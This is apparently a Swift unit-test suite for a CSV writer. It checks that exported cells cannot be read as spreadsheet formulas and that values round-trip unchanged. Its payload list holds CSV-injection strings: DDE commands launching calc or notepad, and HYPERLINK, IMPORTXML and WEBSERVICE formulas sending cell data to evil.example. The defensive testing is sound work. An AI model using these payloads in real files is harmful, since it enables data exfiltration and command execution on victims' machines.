import Foundation
import Testing

@testable import Exchange

/// What goes out is harmless in a spreadsheet and comes back the same.
@Suite struct CSVWriterTests {
    /// From OWASP's page on CSV injection, its cheat sheets and published attacks.
    static let payloads = [
        "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")", "+1+1",
        "+cmd|' /C notepad'!'A1'", "-2+3", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
        "\n=1+1", "\0=1+1", "\r\n=1+1", " =1+1", "\u{A0}@SUM(A1)", "＝1+1", "＋1", "－1", "＠SUM(A1)",
        "=IMPORTXML(CONCAT(\"http://evil.example?v=\",A2),\"//a\")", "=WEBSERVICE(\"https://evil.example\")",
        "\";=1+1;\"", "a\n=1+1", "=\u{301}1", "'=1+1", "''=1+1", "'\t=1", "' =1",
    ]

    static let plain = [
        "", "a", "'", "''", "'s Gravenbrakel", "’t Pasrel", "'t Pasrel", "a'=b", "1-2", "x=1", "say \"hi\"", "\"",
        "a;b,c|d\te",
        "one\ntwo", "one\r\ntwo", "one\rtwo", " leading", "trailing ", "\u{301}accent first", "🚲 \u{200D}", "Één café",
        "\u{FEFF}mark", "a\0b",
    ]

    private func roundTrip(_ rows: [[String]], _ delimiter: CSVFile.Delimiter) throws -> [[[Unicode.Scalar]]] {
        let data = CSVWriter(delimiter: delimiter).data(headers: ["n", "text", "end"], rows: rows)
        let file = try CSVFile(data)
        #expect(file.delimiter == delimiter)
        return file.rows.map { $0.cells.map { Array($0.unicodeScalars) } }
    }

    @Test(arguments: [CSVFile.Delimiter.semicolon, .comma])
    func whatGoesOutComesBackTheSame(_ delimiter: CSVFile.Delimiter) throws {
        let rows = (Self.payloads + Self.plain).enumerated().map { ["\($0)", $1, "x"] }
        let back = try roundTrip(rows, delimiter)
        #expect(back == rows.map { $0.map { Array($0.unicodeScalars) } })
    }

    @Test(arguments: payloads) func noCellIsTakenForAFormula(_ payload: String) throws {
        let text = String(decoding: CSVWriter().data(headers: [payload], rows: [[payload]]), as: UTF8.self)
        var cells = text.unicodeScalars.dropFirst()
        if cells.first == "\"" { cells = cells.dropFirst() }
        let signs: [Unicode.Scalar] = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n", "\0", " ", "\u{A0}"]
        let first = try #require(cells.first)
        #expect(!signs.contains(first))
        #expect(try CSVFile(Data(text.utf8)).headers == [payload.trimmed])
    }

    @Test func anApostropheThatIsNobodysMarkStays() throws {
        let file = try CSVFile(Data("title\n's Gravenbrakel\n'=1+1\n'+32 2 274 48 00\n".utf8))
        #expect(file.rows.map(\.cells) == [["'s Gravenbrakel"], ["=1+1"], ["+32 2 274 48 00"]])
    }

    @Test func spreadsheetsSeeUTF8() {
        let data = CSVWriter().data(headers: ["a", "b"], rows: [["é", "1"]])
        #expect(Array(data) == [0xEF, 0xBB, 0xBF] + Array("a;b\r\né;1\r\n".utf8))
    }

    @Test func anyTableComesBackTheSame() throws {
        var random = SeededRandom(state: 11)
        let letters =
            Array("ab1 '\"=+-@;,|\t\r\n\0é".unicodeScalars) + ["\u{301}", "\u{200D}", "🚲", "\u{600}", "\u{A0}", "＝"]
        for _ in 0..<400 {
            let rows = (0..<4).map { number in
                let cell = String(
                    String.UnicodeScalarView(
                        (0..<Int.random(in: 0...8, using: &random)).compactMap { _ in
                            letters.randomElement(using: &random)
                        }))
                return ["\(number)", cell, "x"]
            }
            #expect(try roundTrip(rows, .semicolon) == rows.map { $0.map { Array($0.unicodeScalars) } })
        }
    }

    // MARK: Lists in a cell

    @Test(arguments: [
        [], ["a"], ["a", "b"], ["a|b", "c"], ["|", "||", "a"], ["a", "", "b"], ["", "b"], ["a", ""], ["x | y"],
    ])
    func listsComeBackTheSame(_ items: [String]) { #expect(CellList.items(CellList.cell(items)) == items) }

    @Test func namesMayBeListedAsPeopleDo() {
        let known: Set = ["gaming", "sexting", "Love, sexuality and body"]
        let names: (String) -> [String] = { CellList.names($0, isValue: known.contains) }
        #expect(names("gaming, sexting;gaming\nsexting") == ["gaming", "sexting", "gaming", "sexting"])
        #expect(names("Love, sexuality and body | gaming") == ["Love, sexuality and body", "gaming"])
        #expect(names(" | gaming | ") == ["gaming"])
    }
}
